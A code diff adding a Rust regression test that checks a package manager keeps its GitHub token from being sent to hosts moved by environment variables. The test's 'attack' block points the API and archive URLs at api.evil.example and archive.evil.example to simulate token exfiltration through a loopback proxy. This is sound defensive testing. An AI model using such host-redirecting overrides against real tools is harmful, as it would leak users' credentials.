@@ -694,6 +694,62 @@ fn github_fast_path_adds_and_installs_with_the_token_kept_home() {
     assert!(!stderr.contains("s3cret"), "the token is never printed");
 }
 
+/// `SKILLPM_GITHUB_API_URL` and `SKILLPM_GITHUB_ARCHIVE_URL` move the fast
+/// path's hosts, and a project's `.env` or CI job can set them as easily as
+/// the user: pointed at another origin, they took `$GITHUB_TOKEN` there.
+/// The GitHub token goes only to GitHub's own origins and to this machine;
+/// another origin gets only a token the user bound to it (its
+/// `SKILLPM_TOKEN_…` variable here). The other origin is reached through a
+/// logging proxy on loopback: the fake API itself.
+#[test]
+fn the_github_token_stays_with_github_when_a_variable_moves_its_hosts() {
+    let h = history();
+    let gh = fake_github(&h);
+    let mut sb = Sandbox::new();
+    gh.configure(&mut sb);
+    sb.init();
+    // Honest: the fake's hosts on loopback get the token.
+    assert_adds_from_one_api_call_and_archive(&sb, &gh, &h);
+
+    // Attack: the hosts moved elsewhere by the environment.
+    let moved = |p: &Path| {
+        let mut cmd = sb.cmd_in(p);
+        cmd.env("SKILLPM_GITHUB_API_URL", "http://api.evil.example")
+            .env("SKILLPM_GITHUB_ARCHIVE_URL", "http://archive.evil.example")
+            .env("HTTP_PROXY", &gh.api.base)
+            .args([
+                "--allow-http",
+                "add",
+                "github:acme/skills/skills@main",
+                "pdf",
+                "--yes",
+            ]);
+        cmd
+    };
+    let p = project(&sb, "moved");
+    let (_, stdout, stderr) = run(&mut moved(&p));
+    assert!(!stdout.contains("s3cret") && !stderr.contains("s3cret"));
+    let log = gh.take_log();
+    assert!(
+        log.iter()
+            .any(|hit| hit.path == "/repos/acme/skills/commits/main"),
+        "the moved API was not asked: {log:?}"
+    );
+    let sent: Vec<_> = log.iter().filter_map(|hit| hit.auth.clone()).collect();
+    assert_eq!(sent, Vec::<String>::new(), "the GitHub token left GitHub");
+    assert!(!p.join("skills.lock").exists());
+
+    // The user's own binding for the moved host is sent there, and only it.
+    let p = project(&sb, "bound");
+    let (_, _, stderr) = run(moved(&p).env("SKILLPM_TOKEN_api_evil_example", "ghe-token"));
+    let log = gh.take_log();
+    let sent: Vec<_> = log.iter().filter_map(|hit| hit.auth.clone()).collect();
+    assert!(
+        !sent.is_empty() && sent.iter().all(|a| a == "Bearer ghe-token"),
+        "{sent:?}\n{stderr}"
+    );
+}
+
 /// `cache verify --json` of `sb`'s cache: clean, and the git cache holds one
 /// repository and no staging debris.
 fn assert_git_cache_sound(sb: &Sandbox) {
